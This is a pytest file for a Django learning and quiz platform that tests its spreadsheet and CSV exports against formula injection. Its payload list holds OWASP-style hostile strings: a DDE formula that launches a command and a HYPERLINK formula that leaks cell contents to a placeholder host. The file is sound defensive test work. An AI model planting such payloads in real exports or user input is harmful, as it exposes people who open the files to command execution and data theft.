"""Formula (CSV) injection: every spreadsheet the project exports writes user text as text.

A member, organisation or question named with each OWASP payload is exported over HTTP
through every export. The workbook's XML must hold no ``<f>`` formula element; each
payload comes back unchanged, in a string cell with ``quotePrefix`` (Excel's "text typed
after an apostrophe"); CSV cells carry a leading apostrophe instead. Numbers stay numbers.
"""

from __future__ import annotations

import csv
import datetime
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from learning.common.spreadsheets import csv_row, is_formula_like, sheet_append, spreadsheet_text
from learning.models import Organization
from quizzes.bank.formats.xlsx import parse_xlsx
from tests.factories.pages import add_course
from tests.factories.people import MemberFactory, OrganizationFactory
from tests.factories.questions import question_create, single_choice
from tests.factories.quizzes import fixed_quiz, take
from tests.factories.study import assign

pytestmark = pytest.mark.django_db

# OWASP's CSV injection examples, and the other characters that start a formula.
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]
NAME = PAYLOADS[0]
BRANCH = PAYLOADS[1]


def sheets_xml(data: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        names = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        return [archive.read(name).decode() for name in names]


def text_cells(data: bytes) -> dict[str, list]:
    """Every string cell of the workbook: its text → [the cells holding it]."""
    found: dict[str, list] = {}
    for sheet in load_workbook(io.BytesIO(data)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    found.setdefault(cell.value, []).append(cell)
    return found


def assert_written_as_text(data: bytes, *texts: str) -> None:
    """No formula anywhere; each text intact in string cells that Excel keeps as text."""
    for xml in sheets_xml(data):
        assert "<f>" not in xml and "<f " not in xml
    cells = text_cells(data)
    for text in texts:
        assert text in cells, text
        for cell in cells[text]:
            assert cell.data_type == "s"
            assert cell.quotePrefix, (text, cell.coordinate)


@pytest.fixture
def hostile_branch(tree) -> Organization:
    return OrganizationFactory(name=BRANCH, code="ZB9", parent=tree.general_a)


@pytest.fixture
def hostile_member(hostile_branch):
    return MemberFactory(username="hacker", display_name=NAME, organization=hostile_branch)


# --- The exports, over HTTP ------------------------------------------------------------------


def test_quiz_results_export_writes_names_as_text(client, administrator, hostile_member):
    quiz = fixed_quiz([question_create(single_choice(stem="中共一大在哪一年召开？"))])
    take(quiz, hostile_member)
    client.force_login(administrator)
    response = client.get(reverse("quizzes_quiz_results_export", args=[quiz.pk]))
    assert response.status_code == 200
    assert_written_as_text(response.content, NAME, BRANCH)
    members = load_workbook(io.BytesIO(response.content)).worksheets[1]
    row = next(members.iter_rows(min_row=2, values_only=True))
    assert row[0] == NAME and row[4] == 1 and row[6] == 100  # numbers stay numbers


def test_assignment_report_export_writes_names_as_text(client, administrator, hostile_member):
    course = add_course("党史学习", ["第一课"], slug="history")
    assignment = assign(
        course,
        [hostile_member.organization],
        datetime.date(2026, 11, 26),
        datetime.date(2026, 11, 30),
        title=PAYLOADS[2],
    )
    client.force_login(administrator)
    url = f"{reverse('assignments:report_export')}?assignment={assignment.pk}"
    response = client.get(url)
    assert response.status_code == 200
    assert_written_as_text(response.content, NAME, BRANCH, PAYLOADS[2])


def test_question_bank_export_neutralises_formulas_and_still_imports_back(client, editor):
    # Imports strip leading whitespace, so the tab and CR payloads are not stems.
    stems = [f"{payload}（ ）" for payload in PAYLOADS if not payload[0].isspace()]
    for stem in stems:
        question_create(single_choice(stem=stem))
    client.force_login(editor)
    response = client.get(reverse("quizzes_questions_export", args=["xlsx"]))
    assert response.status_code == 200
    assert_written_as_text(response.content, *stems)
    parsed = parse_xlsx(response.content)
    assert not parsed.problems
    assert sorted(question.stem for question in parsed.questions) == sorted(stems)


@pytest.mark.parametrize(
    "url_name", ["learning_member_import_template", "quizzes_question_import_template"]
)
def test_import_templates_hold_no_formula(client, administrator, url_name):
    client.force_login(administrator)
    response = client.get(reverse(url_name))
    assert response.status_code == 200
    for xml in sheets_xml(response.content):
        assert "<f>" not in xml and "<f " not in xml


def test_organisation_list_exports_write_names_as_text(client, administrator, hostile_branch):
    client.force_login(administrator)
    index = reverse("organizations:index")
    xlsx = client.get(f"{index}?export=xlsx")
    assert xlsx.status_code == 200
    assert_written_as_text(b"".join(xlsx.streaming_content), BRANCH)

    exported = client.get(f"{index}?export=csv")
    assert exported.status_code == 200
    text = b"".join(exported.streaming_content).decode("utf-8")
    rows = list(csv.reader(io.StringIO(text)))
    names = [row[1] for row in rows[1:]]
    assert f"'{BRANCH}" in names
    assert "某党委" in names  # ordinary names unchanged
    assert not any(name.startswith(("=", "+", "-", "@")) for name in names)


# --- The helper ------------------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_payload_is_formula_like_and_gets_an_apostrophe_in_csv(payload):
    assert is_formula_like(payload)
    assert csv_row([payload, -5, 2.5, None]) == [f"'{payload}", -5, 2.5, None]


@pytest.mark.parametrize("text", ["张三", "1921", " =1", "a=b", "", "'quoted"])
def test_ordinary_text_is_left_alone(text):
    assert not is_formula_like(text)
    assert csv_row([text]) == [text]


def test_a_sheet_row_keeps_numbers_and_repairs_text_that_cannot_be_stored():
    from openpyxl import Workbook

    workbook = Workbook()
    sheet_append(workbook.active, ["=1+1", -5, 1.5, "坏\ud800名\x01字", None])
    buffer = io.BytesIO()
    workbook.save(buffer)
    row = next(load_workbook(buffer).active.iter_rows(values_only=True))
    assert row == ("=1+1", -5, 1.5, "坏\ufffd名字")
    assert spreadsheet_text("a\x00b\ufffe") == "ab"


def test_sheet_names_are_ones_excel_accepts() -> None:
    from learning.common.spreadsheets import sheet_title

    assert sheet_title("Not yet: by branch [1]/2 *?\\") == "Not yet by branch 12 "
    assert len(sheet_title("党" * 40)) == 31
    assert "\ud800" not in sheet_title("=HYPERLINK(\ud800)")
